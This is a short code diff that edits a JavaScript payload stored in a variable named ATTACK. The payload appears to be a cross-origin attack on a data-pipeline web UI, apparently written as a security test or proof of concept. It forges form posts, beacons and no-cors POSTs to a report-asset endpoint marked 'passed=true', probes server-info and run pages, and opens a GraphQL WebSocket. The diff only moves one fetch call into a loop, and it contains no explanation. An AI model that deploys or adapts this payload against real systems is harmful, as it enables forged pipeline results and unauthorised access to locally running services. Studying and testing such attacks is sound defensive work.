@@ -54,10 +54,10 @@ ATTACK = """async ([ui, orders]) => {
     const report = `${ui}/report_asset_${kind}/leaderboard?data_version=x&check_name=x&passed=true`;
     form(report, 'application/x-www-form-urlencoded', 'data_version', 'foreign');
     navigator.sendBeacon(report, '{}');
-    }
+    await fetch(report, {method: 'POST', mode: 'no-cors'}).then(keep).catch(() => 0);
+  }
   for (const path of ['/', '/server_info', '/runs'])
     await fetch(ui + path).then(keep).catch(() => 0);
-  await fetch(report, {method: 'POST', mode: 'no-cors'}).then(keep).catch(() => 0);
   await new Promise(done => {
     const socket = new WebSocket(ui.replace('http', 'ws') + '/graphql', 'graphql-ws');
     socket.onopen = () => read.push('websocket');
